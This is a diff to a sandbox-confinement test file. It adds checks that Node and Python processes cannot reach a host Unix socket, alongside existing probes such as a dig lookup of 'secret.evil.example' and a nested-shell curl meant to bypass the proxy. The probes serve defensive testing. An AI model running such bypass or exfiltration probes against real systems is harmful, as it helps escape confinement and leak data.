@@ -6,6 +6,7 @@
 import t from 'tap';
 import { spawn } from 'node:child_process';
 import fs from 'node:fs';
+import net from 'node:net';
 import path from 'node:path';
 import { createRequire } from 'node:module';
 import { sandboxSupport } from '../../proxy/sandbox/support.ts';
@@ -18,6 +19,15 @@ const world = await startWorld();
 t.teardown(() => world.close());
 
 const undici = createRequire(import.meta.url).resolve('undici');
+// A Unix socket server on the host, like a tmux server, an ssh-agent or X11 in /tmp would be.
+const hostSocket = path.join(world.dir, 'host-service.sock');
+let hostSocketHits = 0;
+const hostService = net.createServer((c) => {
+  hostSocketHits++;
+  c.end('host service\n');
+});
+await new Promise<void>((resolve) => hostService.listen(hostSocket, resolve));
+t.teardown(() => new Promise<void>((resolve) => hostService.close(() => resolve())));
 const UP = world.http.port;
 const UPS = world.https.port;
 
@@ -34,6 +44,15 @@ except OSError as e:
     print(type(e).__name__)
 ")"
 getent hosts example.com >/dev/null 2>&1; r getent $?
+r unix_node "$(node -e "require('net').connect('${hostSocket}').on('connect',()=>console.log('CONNECTED')).on('error',e=>console.log(e.code))")"
+r unix_python "$(python3 -c "
+import socket
+a, b = socket.socketpair()
+try:
+    s = socket.socket(socket.AF_UNIX); s.connect('${hostSocket}'); print('CONNECTED')
+except OSError as e:
+    print(type(e).__name__)
+")"
 dig +time=1 +tries=1 @127.0.0.1 -p ${world.dns.port} secret.evil.example >/dev/null 2>&1; r dig $?
 r nested "$(sh -c "sh -c 'curl -sS --noproxy \\"*\\" -m 5 -o /dev/null http://127.0.0.1:${UP}/bypass-nested 2>/dev/null; echo \\$?'")"
 r links "$(ip -o link | awk -F': ' '{print $2}' | tr '\\n' ' ')"
@@ -75,6 +94,9 @@ t.test('inside the sandbox only the proxy leads out, and the policy decides', as
   t.equal(r.node_direct, 'ECONNREFUSED', 'Node net.connect to the upstream is refused');
   t.equal(r.python_direct, 'ConnectionRefusedError', 'a Python socket to the upstream is refused');
   t.equal(r.nested, '7', 'a shell spawned by a shell is confined too');
+  t.equal(r.unix_node, 'EACCES', 'Node cannot connect to a Unix socket on the host filesystem');
+  t.equal(r.unix_python, 'PermissionError', 'Python cannot create a Unix socket (socketpair still works)');
+  t.equal(hostSocketHits, 0, 'the host\'s Unix socket service saw no connection');
   t.not(r.getent, '0', 'getent hosts example.com resolves nothing');
   t.equal(r.dig, '9', 'dig gets no answer from a DNS server on the host loopback');
   t.equal(r.links?.trim(), 'lo', 'the only network interface is loopback');
